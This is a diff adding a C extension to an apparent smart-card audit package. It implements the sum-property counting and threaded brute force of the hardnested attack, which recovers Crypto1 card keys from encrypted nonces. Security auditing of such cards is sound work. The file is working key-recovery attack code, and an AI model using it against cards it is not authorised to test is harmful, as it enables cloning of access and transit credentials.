@@ -1,0 +1,208 @@
+/* The hot loops of the hardnested attack (audit/hardnested.py): the sum-property counts of every half state,
+ * and the brute force of (odd, even) initial states against the collected encrypted nonces, on threads.
+ *
+ * The state is kept as cardsim/crypto1.py keeps it (two 24-bit halves, odd- and even-indexed LFSR bits; the
+ * filter reads the 20 low bits of the odd half; a clock shifts the even half left by one, puts the feedback
+ * bit at bit 0 and swaps the halves). The initial state of an authentication is the key itself, so a state
+ * that explains every nonce is the key.
+ */
+
+#define PY_SSIZE_T_CLEAN
+#include <Python.h>
+
+#include <pthread.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <string.h>
+
+#define FA 0xD938u
+#define FB 0xF22Cu
+#define FC 0xEC57E80Au
+#define LF_POLY_ODD 0x29CE5Cu
+#define LF_POLY_EVEN 0x870804u
+#define MASK24 0xFFFFFFu
+#define MAX_FOUND 4096 /* more survivors than this means too few nonces: the caller collects more */
+#define MAX_THREADS 64
+
+/* The filter of every 20-bit input, one bit each (128 KiB, it stays in the L2 cache): one load per clock
+ * instead of five nibble look-ups. Filled when the module is loaded. */
+static uint8_t filter_table[1 << 17];
+
+static uint32_t filter_slow(uint32_t x) {
+    uint32_t f = (((FB << 4) >> (x & 0xF)) & 16) | (((FA << 3) >> ((x >> 4) & 0xF)) & 8) |
+                 (((FB << 2) >> ((x >> 8) & 0xF)) & 4) | (((FB << 1) >> ((x >> 12) & 0xF)) & 2) |
+                 ((FA >> ((x >> 16) & 0xF)) & 1);
+    return (FC >> f) & 1;
+}
+
+static void fill_filter_table(void) {
+    for (uint32_t x = 0; x < (1u << 20); x++) filter_table[x >> 3] |= (uint8_t)(filter_slow(x) << (x & 7));
+}
+
+static inline uint32_t filter(uint32_t x) { return (filter_table[(x & 0xFFFFF) >> 3] >> (x & 7)) & 1; }
+
+/* The XOR of the filter outputs the 20 low bits of a half give while it takes k fed bits (k = 0..4 low bits of
+ * ``fed``, first fed highest), starting with ``first`` shifts: this is the half's share of the parity of the
+ * keystream bits 0..8 of an authentication (odd half: clocks 0, 2, 4, 6, 8; even: 1, 3, 5, 7). */
+static uint32_t half_parity(uint32_t half, uint32_t fed, int odd) {
+    uint32_t acc = 0;
+    int start = odd ? 0 : 1;
+    for (int k = start; k <= 4; k++) {
+        uint32_t x = (half << k) | (fed >> (4 - k));
+        acc ^= filter(x);
+    }
+    return acc;
+}
+
+/* half_sums() -> (bytes, bytes): for each of the 2^20 low-20-bit patterns of the odd half, the count p of the
+ * 16 fed nibbles that give its share 1; the same (q) for the even half. Sum(a0) = p(16 - q) + (16 - p)q. */
+static PyObject *half_sums(PyObject *self, PyObject *args) {
+    (void)self;
+    (void)args;
+    PyObject *odd = PyBytes_FromStringAndSize(NULL, 1 << 20);
+    PyObject *even = PyBytes_FromStringAndSize(NULL, 1 << 20);
+    if (odd == NULL || even == NULL) {
+        Py_XDECREF(odd);
+        Py_XDECREF(even);
+        return NULL;
+    }
+    uint8_t *p = (uint8_t *)PyBytes_AS_STRING(odd), *q = (uint8_t *)PyBytes_AS_STRING(even);
+    Py_BEGIN_ALLOW_THREADS
+    for (uint32_t half = 0; half < (1u << 20); half++) {
+        uint8_t po = 0, qe = 0;
+        for (uint32_t fed = 0; fed < 16; fed++) {
+            po += (uint8_t)half_parity(half, fed, 1);
+            qe += (uint8_t)half_parity(half, fed, 0);
+        }
+        p[half] = po;
+        q[half] = qe;
+    }
+    Py_END_ALLOW_THREADS
+    return Py_BuildValue("(NN)", odd, even);
+}
+
+typedef struct {
+    const uint32_t *odd, *even;
+    size_t n_odd, n_even;
+    const uint32_t *fed;    /* per nonce: uid ^ {nT} */
+    const uint8_t *targets; /* per nonce, bit k: parity(keystream byte k) ^ keystream bit 8k+8 */
+    size_t n_nonces;
+    size_t begin, end; /* this thread's share of the odd list */
+    uint64_t found[MAX_FOUND];
+    size_t n_found;
+} Work;
+
+/* Whether the initial state (odd, even) explains every nonce: decrypting {nT} while feeding uid ^ nT, each
+ * encrypted parity bit checks. A wrong state fails after ~17 clocks on average (each check halves them). */
+static inline int explains(uint32_t odd, uint32_t even, const Work *w) {
+    for (size_t n = 0; n < w->n_nonces; n++) {
+        uint32_t o = odd, e = even, fed = w->fed[n], target = w->targets[n], acc = 0;
+        for (int i = 0; i < 32; i++) {
+            uint32_t ks = filter(o);
+            acc ^= ks;
+            uint32_t feed = ks ^ ((fed >> (i ^ 24)) & 1) ^
+                            (uint32_t)__builtin_parity((LF_POLY_ODD & o) ^ (LF_POLY_EVEN & e));
+            uint32_t t = o;
+            o = ((e << 1) | feed) & MASK24;
+            e = t;
+            if ((i & 7) == 7) {
+                if ((acc ^ filter(o)) != ((target >> (i >> 3)) & 1)) return 0;
+                acc = 0;
+            }
+        }
+    }
+    return 1;
+}
+
+static void *run(void *arg) {
+    Work *w = arg;
+    for (size_t i = w->begin; i < w->end; i++)
+        for (size_t j = 0; j < w->n_even; j++)
+            if (explains(w->odd[i], w->even[j], w) && w->n_found < MAX_FOUND)
+                w->found[w->n_found++] = ((uint64_t)w->odd[i] << 24) | w->even[j];
+    return NULL;
+}
+
+/* brute_force(odd, even, fed, targets, threads) -> list[int]: every pair of the odd list x the even list
+ * (native uint32 arrays) that explains all nonces, as odd << 24 | even. The odd list is split over threads;
+ * the GIL is released. */
+static PyObject *brute_force(PyObject *self, PyObject *args) {
+    (void)self;
+    Py_buffer odd, even, fed, targets;
+    int threads;
+    if (!PyArg_ParseTuple(args, "y*y*y*y*i", &odd, &even, &fed, &targets, &threads)) return NULL;
+    PyObject *result = NULL;
+    Work *works = NULL;
+    if (odd.len % 4 || even.len % 4 || fed.len % 4 || (size_t)targets.len != (size_t)fed.len / 4) {
+        PyErr_SetString(PyExc_ValueError, "odd, even and fed are uint32 arrays; one target byte per fed word");
+        goto done;
+    }
+    if (threads < 1 || threads > MAX_THREADS) {
+        PyErr_SetString(PyExc_ValueError, "threads must be 1..64");
+        goto done;
+    }
+    works = calloc((size_t)threads, sizeof(Work));
+    if (works == NULL) {
+        PyErr_NoMemory();
+        goto done;
+    }
+    size_t n_odd = (size_t)odd.len / 4;
+    pthread_t ids[MAX_THREADS];
+    int started[MAX_THREADS] = {0};
+    Py_BEGIN_ALLOW_THREADS
+    for (int t = 0; t < threads; t++) {
+        Work *w = &works[t];
+        w->odd = odd.buf;
+        w->even = even.buf;
+        w->n_odd = n_odd;
+        w->n_even = (size_t)even.len / 4;
+        w->fed = fed.buf;
+        w->targets = targets.buf;
+        w->n_nonces = (size_t)fed.len / 4;
+        w->begin = n_odd * (size_t)t / (size_t)threads;
+        w->end = n_odd * (size_t)(t + 1) / (size_t)threads;
+        started[t] = t > 0 && pthread_create(&ids[t], NULL, run, w) == 0;
+    }
+    run(&works[0]);
+    for (int t = 1; t < threads; t++) {
+        if (started[t])
+            pthread_join(ids[t], NULL);
+        else
+            run(&works[t]); /* no thread to be had: do its share here */
+    }
+    Py_END_ALLOW_THREADS
+    result = PyList_New(0);
+    for (int t = 0; result != NULL && t < threads; t++)
+        for (size_t i = 0; i < works[t].n_found; i++) {
+            PyObject *v = PyLong_FromUnsignedLongLong(works[t].found[i]);
+            if (v == NULL || PyList_Append(result, v) < 0) {
+                Py_XDECREF(v);
+                Py_CLEAR(result);
+                break;
+            }
+            Py_DECREF(v);
+        }
+done:
+    free(works);
+    PyBuffer_Release(&odd);
+    PyBuffer_Release(&even);
+    PyBuffer_Release(&fed);
+    PyBuffer_Release(&targets);
+    return result;
+}
+
+static PyMethodDef methods[] = {
+    {"half_sums", half_sums, METH_NOARGS, "Sum-property counts (p of the odd, q of the even half) per 20-bit pattern."},
+    {"brute_force", brute_force, METH_VARARGS, "States of odd x even that explain every encrypted nonce."},
+    {NULL, NULL, 0, NULL},
+};
+
+static struct PyModuleDef module = {
+    PyModuleDef_HEAD_INIT, "audit._hardnested", "The hardnested attack's hot loops in C.", -1, methods,
+    NULL, NULL, NULL, NULL,
+};
+
+PyMODINIT_FUNC PyInit__hardnested(void) {
+    fill_filter_table();
+    return PyModule_Create(&module);
+}
